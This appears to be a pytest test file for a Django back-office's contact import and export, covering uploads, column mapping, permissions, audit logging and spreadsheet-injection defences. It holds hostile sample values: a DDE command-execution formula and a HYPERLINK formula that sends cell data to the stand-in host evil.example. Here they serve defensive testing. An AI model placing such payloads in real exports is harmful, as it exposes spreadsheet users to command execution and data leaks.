"""Imports and exports in the back-office."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from accounts.models import AuditEntry
from common.scoping import company_scope
from contacts.imports import exporting
from contacts.models import Contact, ImportJob
from contacts.services.contacts import contact_save
from tests.backoffice import Office, owner, said, supervisor, text_of
from tests.contacts.importing import csv_of, imported, run, upload

pytestmark = pytest.mark.usefixtures("bells")
HEADER = ("Nome", "Celular", "Aceita marketing")
ROWS = (HEADER, ("Lia <b>", "41 99888-1111", "sim"), ("Zé", "123", "talvez"))


def uploaded(office: Office, content: bytes | None = None) -> ImportJob:
    """Upload a file from the page."""
    answer = office.save("contacts_importjob", upload=upload(content or csv_of(ROWS)))
    assert answer.status_code == 302
    job = ImportJob.unscoped.latest("pk")
    assert answer.url == reverse("admin:contacts_importjob_change", args=[job.pk])
    return job


def chosen(**choices: str) -> dict[str, str]:
    """Fill the form of the columns."""
    given = {
        "coluna_0": "nome",
        "coluna_1": "telefone",
        "coluna_2": "marketing",
        "has_header": "on",
        "existing": "completar",
        "legal_basis": "consentimento",
        "proof": "Ficha",
    }
    return given | choices


def test_a_file_goes_from_upload_to_report(ana):
    office = Office(ana)
    job = uploaded(office)
    page = text_of(office.page("contacts_importjob", job))
    assert "Lia &lt;b&gt;" in page and "<b>Lia" not in page and "Primeiras linhas" in page
    assert 'value="marketing" selected' in page.replace("\n", "")
    answer = office.save("contacts_importjob", job, **chosen())
    assert answer.status_code == 302
    page = text_of(office.page("contacts_importjob", job))
    address = reverse("admin:contacts_importjob_progress", args=[job.pk])
    assert f'hx-get="{address}" hx-trigger="every 1s"' in page and "Cancelar importação" in page
    asked = office.browser.get(address)
    assert asked.status_code == 200 and "HX-Refresh" not in asked
    assert run(job).status == "concluida"
    asked = office.browser.get(address)
    assert asked["HX-Refresh"] == "true" and "hx-get" not in text_of(asked)
    assert "2 de 2 linhas (100 %)" in text_of(asked)
    page = text_of(office.page("contacts_importjob", job))
    assert "Telefone inválido" in page and "Use sim ou não" in page
    report = office.press("contacts_importjob", job, "refusals")
    text = b"".join(report.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";"))[1][:2] == ["3", "Celular"]
    assert Contact.unscoped.get().name == "Lia <b>"


def test_permissions_without_a_basis_are_refused_beside_the_input(ana):
    office = Office(ana)
    job = uploaded(office)
    answer = office.save("contacts_importjob", job, **chosen(legal_basis=""))
    assert "base legal" in str(answer.context["adminform"].form.errors["legal_basis"])
    job.refresh_from_db()
    assert job.status == "rascunho"


def test_a_file_that_is_none_is_refused_beside_the_input(ana):
    answer = Office(ana).save("contacts_importjob", upload=upload(b"%PDF-1.7 x", "x.csv"))
    assert "não pôde ser lido" in text_of(answer)
    assert not ImportJob.unscoped.exists()


def test_a_repeated_file_is_told_before_and_refused_after(ana):
    imported(ana, ("Lia", "41998881111", ""))
    office = Office(ana)
    job = uploaded(office, csv_of([("Nome", "Celular", "E-mail"), ("Lia", "41998881111", "")]))
    assert "já foi importado: <time " in text_of(office.page("contacts_importjob", job))
    given = chosen(coluna_2="email", legal_basis="", proof="")
    answer = office.save("contacts_importjob", job, **given)
    assert answer.status_code == 200 and "mesmas escolhas" in text_of(answer)


def test_an_import_is_stopped_and_goes_on(ana):
    office = Office(ana)
    job = uploaded(office)
    office.save("contacts_importjob", job, **chosen())
    assert "O que já entrou ficou" in said(office.press("contacts_importjob", job, "cancel"))
    job.refresh_from_db()
    assert job.status == "cancelada"
    office.press("contacts_importjob", job, "resume")
    assert run(job).created_count == 1


def test_a_supervisor_looks_and_does_not_import(clinic, ana):
    job = imported(ana, ("Lia", "41998881111", ""))
    office = Office(supervisor(clinic))
    assert office.page("contacts_importjob", job).status_code == 200
    assert office.browser.get(reverse("admin:contacts_importjob_add")).status_code == 403
    assert "Importar" not in text_of(office.list("contacts_contact"))


def test_the_list_of_imports_asks_no_more_for_many_than_for_few(ana):
    office = Office(ana)
    address = reverse("admin:contacts_importjob_changelist")
    imported(ana, ("Lia", "41998881111", ""))
    few = office.queries(address)
    for number in range(8):
        imported(ana, ("Lia", f"4199888222{number}", ""))
    assert office.queries(address) <= few


# --- export ---------------------------------------------------------------------------------------


def exported(office: Office, kind: str = "csv", **query: str) -> list[list[str]]:
    """Press an export button of the list as it is filtered."""
    page = office.list("contacts_contact", **query)
    paths = [button["path"] for button in page.context["actions_list"]]
    (address,) = [path for path in paths if f"exportar-{kind}" in path]
    answer = office.browser.get(address)
    assert answer.status_code == 200 and "no-store" in answer["Cache-Control"]
    content = b"".join(answer.streaming_content)
    if kind == "csv":
        assert content.startswith(b"\xef\xbb\xbf")
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert {cell.data_type for row in sheet for cell in row} <= {"s", "n", "inlineStr"}
    return [[str(cell.value or "") for cell in row] for row in sheet]


@pytest.fixture
def people(ana):
    formula = {"CPF": "-1", "Convênio": "@SUM(1)", "Prontuário": "000123"}
    with company_scope(ana.company_id):
        contact_save(
            actor=ana,
            name="=cmd|' /C calc'!A0",
            phone="41998881111",
            tags=["VIP", "Botox"],
            custom=formula,
            marketing_opt_in=True,
        )
        contact_save(actor=ana, name="Lia", phone="+1 202 555 0143", email="lia@exemplo.example")


@pytest.mark.parametrize("kind", ["csv", "excel"])
def test_what_is_on_screen_is_exported_and_runs_nothing(ana, people, kind):
    heading, lia, formula = exported(Office(ana), kind)
    assert heading[:6] == [
        "Nome",
        "Telefone",
        "E-mail",
        "Situação",
        "Etiquetas",
        "Aceita marketing",
    ]
    # A CSV has no other way to say that something is a text; a workbook's cells are texts by type.
    shown = {"csv": ('="{}"', "'{}"), "excel": ("{}", "{}")}[kind]
    digits, disarmed = (mark.format for mark in shown)
    assert lia[:3] == ["Lia", digits("+1 202-555-0143"), "lia@exemplo.example"]
    assert formula[:2] == [disarmed("=cmd|' /C calc'!A0"), "(41) 99888-1111"]
    assert formula[4:6] == ["Botox; VIP", "sim"]
    assert formula[heading.index("CPF")] == disarmed("-1")
    assert formula[heading.index("Convênio")] == disarmed("@SUM(1)")
    assert formula[heading.index("Prontuário")] == digits("000123")


def test_the_filters_of_the_page_hold_and_the_audit_names_them(ana, people):
    _heading, *rows = exported(Office(ana), q="Lia")
    assert [row[0] for row in rows] == ["Lia"]
    entry = AuditEntry.unscoped.get(action="contato.exportado")
    assert entry.detail == {"formato": "csv", "pessoas": 1, "filtros": ["q"]}
    assert entry.actor == ana.user


def test_an_export_goes_back_in_as_it_was(ana, people):
    heading, *rows = exported(Office(ana))
    job = imported(ana, *rows, header=heading, legal_basis="consentimento", proof="Exportação")
    assert (job.created_count, job.updated_count, job.refused_count) == (0, 0, 0)
    assert job.unchanged_count == 2


def test_the_rival_exports_nobody_of_the_clinic(ana, rui, people):
    assert len(exported(Office(rui))) == 1
    assert len(exported(Office(owner()))) == 3


def test_a_workbook_for_too_many_is_refused(ana, people, monkeypatch):
    monkeypatch.setattr(exporting, "XLSX_ROWS", 1)
    office = Office(ana)
    answer = office.browser.get("/admin/contacts/contact/exportar-excel/")
    assert answer.status_code == 302 and "Exporte em CSV" in said(answer)


HIDDEN = ("\u200b", "\u2060", "\ufeff", "\u00ad", "\u202e", " ", "\u3000", "\x0b", "\ufe0f", "\x00")


@pytest.mark.parametrize("text", ["=1", "+A1", "-A1", "@a", "\t=1", "\r=1", "\0=1", "\n=1", "＝1"])
@pytest.mark.parametrize("before", ["", *HIDDEN])
def test_a_dangerous_beginning_is_disarmed(before, text):
    assert exporting.harmless(before + text) == f"'{before}{text}"


@pytest.mark.parametrize("before", ["", *HIDDEN])
def test_no_cell_of_a_workbook_is_a_formula(before):
    text = before + '=HYPERLINK("http://evil.example/?d="&B2&C2,"Abrir ficha")'
    lines = iter([["Nome", "Resposta"], [text, "#N/A"], ["👨‍👩‍👧 Luz", "-"]])
    content = b"".join(exporting.workbook_pieces(lines, "Pessoas"))
    (_names, (danger, error), (family, _dash)) = openpyxl.load_workbook(io.BytesIO(content)).active
    assert danger.data_type in ("s", "inlineStr") and danger.value.endswith('"Abrir ficha")')
    assert danger.quotePrefix and danger.value.lstrip("\x0b\x00") in text
    assert (error.data_type, error.value, family.value) != ("e", "#N/A", "") and family.value[
        0
    ] == "👨"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("01234567890", '="01234567890"'), ("000123", '="000123"'), ("12E3", '="12E3"'),
        ("1234567890123456", '="1234567890123456"'), ("+351 912 345 678", '="+351 912 345 678"'),
        ("12345678901", "12345678901"), ("0", "0"), ("12/03/1985", "12/03/1985"),
        ("(41) 99711-0001", "(41) 99711-0001"), ("Ana", "Ana"), ("3/4", '="3/4"'),
    ],
)  # fmt: skip
def test_digits_survive_a_double_click(text, written):
    assert exporting.harmless(text) == written
